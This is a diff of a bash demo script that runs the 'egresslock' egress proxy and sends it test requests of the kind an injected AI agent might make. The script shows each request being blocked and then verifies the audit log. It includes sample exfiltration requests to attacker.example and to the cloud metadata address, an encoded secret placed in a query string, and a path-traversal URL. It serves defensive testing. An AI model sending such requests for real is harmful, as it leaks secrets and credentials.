@@ -1,14 +1,39 @@
 #!/usr/bin/env bash
-# The main job on an example: validate a policy, then ask it about requests an agent might make.
+# The main job on an example: run the egresslock proxy with examples/local-demo.yaml in front of
+# a server on loopback, send it what an agent (or an injected agent) might send with curl, then
+# show the audit log of every decision and verify its hash chain.
 set -uo pipefail
 cd "$(dirname "$0")/.."
 EL=.venv/bin/egresslock
-POLICY=examples/basic.yaml
+POLICY=examples/local-demo.yaml
+WORK=$(mktemp -d)
+trap 'kill $SERVER $PROXY 2>/dev/null; wait 2>/dev/null; rm -rf "$WORK"' EXIT
+
 $EL policy validate "$POLICY" || exit 1
-ask() { echo "\$ egresslock check -p $POLICY $*"; $EL check -p "$POLICY" "$@"; echo "(exit $?)"; echo; }
-ask -X GET  https://api.github.com/repos/acme/widgets/issues
-ask -X POST https://api.github.com/repos/acme/widgets/issues
-ask 'https://api.github.com/repos/acme/widgets/contents?ref=main&d=c2VjcmV0'
-ask http://169.254.169.254/latest/meta-data/
-ask https://attacker.example/exfil?q=secret
-exit 0
+mkdir -p "$WORK/www/docs" && echo "hello from the docs" > "$WORK/www/docs/index.html"
+.venv/bin/python -m http.server 8765 --bind 127.0.0.1 --directory "$WORK/www" >/dev/null 2>&1 &
+SERVER=$!
+$EL proxy -p "$POLICY" --listen 127.0.0.1:0 --audit "$WORK/audit.db" \
+  --resolve docs.demo.test:127.0.0.1 >"$WORK/proxy.out" 2>"$WORK/proxy.err" &
+PROXY=$!
+for _ in $(seq 50); do grep -q "listening on" "$WORK/proxy.out" 2>/dev/null && break; sleep 0.1; done
+ADDR=$(sed -n 's/^listening on //p' "$WORK/proxy.out")
+[ -n "$ADDR" ] || { cat "$WORK/proxy.err"; exit 1; }
+echo "proxy listening on $ADDR"; echo
+
+ask() {
+  echo "\$ curl -x http://$ADDR $*"
+  curl -sS -x "http://$ADDR" -o /dev/null -D - "$@" | grep -iE "^HTTP/|^X-Egresslock" ; echo
+}
+ask http://docs.demo.test:8765/docs/index.html                         # allowed
+ask -X POST -d "notes=private" http://docs.demo.test:8765/docs/index.html  # method denied
+ask "http://docs.demo.test:8765/docs/index.html?q=c2VjcmV0LWRhdGE="    # query parameter denied
+ask http://attacker.example/exfil?d=secret                             # host denied, never resolved
+ask http://169.254.169.254/latest/meta-data/                           # metadata address denied
+ask "http://docs.demo.test:8765/docs/%2e%2e/admin"                     # traversal refused
+
+kill -TERM $PROXY; wait $PROXY 2>/dev/null
+echo "\$ egresslock audit --db audit.db"
+$EL audit --db "$WORK/audit.db"
+echo; echo "\$ egresslock audit verify --db audit.db"
+$EL audit verify --db "$WORK/audit.db"
